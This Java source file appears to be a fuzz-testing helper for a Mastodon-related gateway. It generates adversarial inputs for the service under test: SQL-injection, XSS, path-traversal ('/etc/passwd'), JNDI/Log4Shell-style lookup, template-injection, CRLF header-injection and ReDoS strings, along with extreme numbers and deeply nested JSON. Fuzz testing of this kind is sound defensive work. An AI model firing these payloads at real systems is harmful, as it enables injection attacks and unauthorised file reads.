package org.mastowatch.gateway.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.Random;

/** Values that nobody sends who means well. Each text that can be told apart holds {@link #MARK}. */
final class Hostile {

    /** Stands in no answer to a request that was refused. */
    static final String MARK = "qz7xk9";

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private static final List<String> TEXTS = List.of(
            MARK,
            "",
            " ",
            "\0" + MARK,
            MARK + "\u0000end",
            "\u202E" + MARK + "\u202C",
            "\uD800" + MARK,
            MARK + "\uDFFF",
            "\uFEFF" + MARK,
            MARK + "\r\nX-Evil: 1",
            "'; drop table rules; -- " + MARK,
            "\" or 1=1 -- " + MARK,
            "<script>alert('" + MARK + "')</script>",
            "<img src=x onerror=" + MARK + ">",
            "../../../../etc/passwd" + MARK,
            "..\\..\\" + MARK,
            "%00" + MARK,
            "%2e%2e%2f" + MARK,
            "${jndi:ldap://" + MARK + ".example/a}",
            "{{7*7}}" + MARK,
            "#{" + MARK + "}",
            "(a+)+$" + MARK,
            "((((((((((" + MARK,
            "\\p{" + MARK + "}",
            "%s%n%x" + MARK,
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 " + MARK,
            "İıſK" + MARK,
            "null",
            "true",
            "NaN",
            "-0",
            "1e400",
            "2147483648",
            "9223372036854775808",
            "999999999999999999",
            "-1",
            "2026-02-30T25:61:61Z",
            "+999999999-01-01T00:00:00Z",
            "0000-00-00",
            MARK + ",".repeat(500),
            MARK + ".".repeat(300) + "example",
            "@" + MARK + "@far.example",
            "https://far.example/@" + MARK);

    private Hostile() {}

    static String text(Random random) {
        int pick = random.nextInt(TEXTS.size() + 2);
        if (pick < TEXTS.size()) {
            return TEXTS.get(pick);
        }
        if (pick == TEXTS.size()) {
            return MARK + "x".repeat(10_000);
        }
        StringBuilder text = new StringBuilder(MARK);
        int length = random.nextInt(40);
        for (int i = 0; i < length; i++) {
            text.append((char) random.nextInt(random.nextBoolean() ? 0x80 : 0x10000));
        }
        return text.toString();
    }

    static JsonNode number(Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> JSON.numberNode(0);
            case 1 -> JSON.numberNode(-1);
            case 2 -> JSON.numberNode(Integer.MAX_VALUE + 1L);
            case 3 -> JSON.numberNode(Long.MIN_VALUE);
            case 4 -> JSON.numberNode(BigInteger.TEN.pow(60));
            case 5 -> JSON.numberNode(new BigDecimal("1e-400"));
            case 6 -> JSON.numberNode(new BigDecimal("9e999"));
            case 7 -> JSON.numberNode(0.1 + random.nextInt(10));
            default -> JSON.numberNode(random.nextInt(1_000));
        };
    }

    /** Any JSON at all. */
    static JsonNode value(Random random, int depth) {
        return switch (random.nextInt(depth > 3 ? 5 : 8)) {
            case 0 -> JSON.textNode(text(random));
            case 1 -> number(random);
            case 2 -> JSON.booleanNode(random.nextBoolean());
            case 3 -> JSON.nullNode();
            case 4 -> JSON.textNode(text(random));
            case 5 -> list(random, depth);
            case 6 -> object(random, depth);
            default -> nested(random);
        };
    }

    private static ArrayNode list(Random random, int depth) {
        ArrayNode list = JSON.arrayNode();
        int size = random.nextInt(20) == 0 ? 2_000 : random.nextInt(4);
        for (int i = 0; i < size; i++) {
            list.add(size > 10 ? JSON.numberNode(i) : value(random, depth + 1));
        }
        return list;
    }

    private static ObjectNode object(Random random, int depth) {
        ObjectNode object = JSON.objectNode();
        int size = random.nextInt(4);
        for (int i = 0; i < size; i++) {
            object.set(name(random), value(random, depth + 1));
        }
        return object;
    }

    /** A name of a field: one that is known somewhere, or none. */
    static String name(Random random) {
        return switch (random.nextInt(4)) {
            case 0 -> "<b>" + text(random);
            case 1 -> "id";
            case 2 -> "account";
            default -> "colour";
        };
    }

    private static JsonNode nested(Random random) {
        JsonNode inner = JSON.textNode(MARK);
        int depth = random.nextBoolean() ? 30 : 500;
        for (int i = 0; i < depth; i++) {
            inner = random.nextBoolean()
                    ? JSON.arrayNode().add(inner)
                    : JSON.objectNode().set("a", inner);
        }
        return inner;
    }
}
